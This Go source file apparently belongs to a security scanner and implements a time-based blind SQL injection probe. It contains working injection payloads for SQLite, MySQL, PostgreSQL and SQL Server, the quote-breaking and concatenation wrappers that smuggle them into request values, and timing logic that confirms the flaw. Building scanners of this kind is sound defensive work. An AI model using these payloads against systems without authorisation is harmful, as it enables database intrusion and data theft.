package injection

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/atelier-studio/atelier/agents"
	"github.com/atelier-studio/atelier/agents/surface"
	"github.com/atelier-studio/atelier/agents/wire"
)

func sqliTime() *agents.Probe {
	return &agents.Probe{
		ID: "sqli-time", Title: "A value from the request makes the database wait",
		Decides:  "A value that makes the database wait for a second is answered more than 0.8 s later than the same value that makes it wait for none, in three pairs of three.",
		Keeps:    "The six times, and an exchange.",
		Advice:   "Give values to statements as parameters, never as part of their text.",
		Needs:    needs,
		Severity: agents.Critical, References: []string{"CWE-89"}, Skills: []string{"SQLi"},
		Check: agents.Each(inputs, runSQLITime),
	}
}

// delay is an expression that takes as long as it says and is no number that anybody looks for. An expression stands in a
// sub-query, so that it is computed once and not for every row.
type delay struct {
	database string
	// expression has {t} for seconds, or how far a database is made to count that cannot wait.
	expression string
	counts     bool
}

var delays = []delay{
	{database: "SQLite", expression: "(WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM c WHERE n<{t}) SELECT COUNT(*) FROM c)", counts: true},
	{database: "MySQL", expression: "(SELECT 7193 FROM (SELECT(SLEEP({t})))q)"},
	{database: "PostgreSQL", expression: "(SELECT 7193 FROM pg_sleep({t}))"},
}

// Times of the measurement.
const (
	enough    = 800 * time.Millisecond
	tooSlow   = 3 * time.Second
	firstStep = 300_000
	lastStep  = 40_000_000
)

// How an expression {e} is put behind a value {v}: as a condition that is false, and where something is changed joined to
// the text, so that neither what is selected nor the rest of the statement becomes another.
var (
	askingHosts = []string{"{v}' OR 7={e}-- ", "{v} OR 7={e}"}
	otherHosts  = []string{"{v}'||{e}||'", "{v}'+{e}+'"}
)

func runSQLITime(ctx context.Context, lab *agents.Lab, in *surface.Input) agents.Outcome {
	a, stop := at(ctx, lab, in)
	if stop != nil {
		return *stop
	}
	defer a.close()
	if a.base.First > tooSlow {
		return agents.Block("it answers after %s already, too late to tell a second more", a.base.First.Round(time.Millisecond))
	}
	for _, value := range delaying(in, isAsking(lab.Surface, in)) {
		f, stop := a.waits(ctx, value)
		if stop != nil {
			return *stop
		}
		if f != nil {
			return agents.Fail(*f)
		}
	}
	return agents.Pass()
}

// late is a value with an expression whose length can be chosen.
type late struct {
	delay
	form string // with {t}
}

func (l late) with(n string) string { return strings.Replace(l.form, "{t}", n, 1) }

// delaying are the values for an input, the likeliest first.
func delaying(in *surface.Input, asks bool) []late {
	hosts := otherHosts
	if asks {
		hosts = askingHosts
	}
	var list []late
	for _, d := range delays {
		for _, host := range hosts {
			if d.database == "MySQL" && strings.Contains(host, "||") || d.database != "MySQL" && strings.Contains(host, "+") {
				continue // what joins texts in one database asks for truth in another
			}
			list = append(list, late{d, strings.NewReplacer("{v}", in.Known, "{e}", d.expression).Replace(host)})
		}
	}
	if asks { // statements of their own, which wait and do nothing else
		list = append(list, late{delay{database: "Microsoft SQL Server"}, in.Known + "'; WAITFOR DELAY '0:0:{t}'-- "}, late{delay{database: "Microsoft SQL Server"}, in.Known + "; WAITFOR DELAY '0:0:{t}'-- "})
	}
	return list
}

// took is how long an answer let wait, without the campaign's own pace.
func took(x *wire.Exchange) time.Duration { return x.First }

// waits tells whether a value makes the target wait as long as it says.
func (a *aim) waits(ctx context.Context, l late) (*agents.Finding, *agents.Outcome) {
	none, second := "0", "1"
	if l.counts {
		none = "1"
		n, stop := a.calibrate(ctx, l)
		if n == 0 {
			return nil, stop
		}
		second = fmt.Sprint(n)
	} else if x := a.direct(ctx, l.with(second)); took(x) < a.base.First+enough {
		return nil, unfit(ctx, x)
	}
	rows := [][]string{{"pair", "without waiting", "with a second"}}
	var last *wire.Exchange
	for i := range 3 {
		fast := a.direct(ctx, l.with(none))
		last = a.direct(ctx, l.with(second))
		for _, x := range []*wire.Exchange{fast, last} {
			if stop := unfit(ctx, x); stop != nil {
				return nil, stop
			}
		}
		if took(last)-took(fast) < enough {
			return nil, nil
		}
		rows = append(rows, []string{fmt.Sprint(i + 1), took(fast).Round(time.Millisecond).String(), took(last).Round(time.Millisecond).String()})
	}
	f := a.finding(fmt.Sprintf("%s makes the database wait when its value says so (%s): the value is part of a statement, and whoever asks can learn all that the database holds by how long it takes.", a.in.Name, l.database),
		agents.Table("how long the answers took", agents.ByTiming, rows...), agents.Exchanged("the answer that took a second longer", last))
	return &f, nil
}

// calibrate finds how far a database that cannot wait has to count for a second and some; 0 when it does not count.
func (a *aim) calibrate(ctx context.Context, l late) (int, *agents.Outcome) {
	const aim, sign = 1400 * time.Millisecond, 40 * time.Millisecond
	fast := a.direct(ctx, l.with("1"))
	if stop := unfit(ctx, fast); stop != nil {
		return 0, stop
	}
	slow := a.direct(ctx, l.with(fmt.Sprint(firstStep)))
	if stop := unfit(ctx, slow); stop != nil {
		return 0, stop
	}
	longer := took(slow) - took(fast)
	if longer < sign {
		return 0, nil
	}
	n := int(float64(firstStep) * float64(aim) / float64(longer))
	return min(max(n, firstStep), lastStep), nil
}
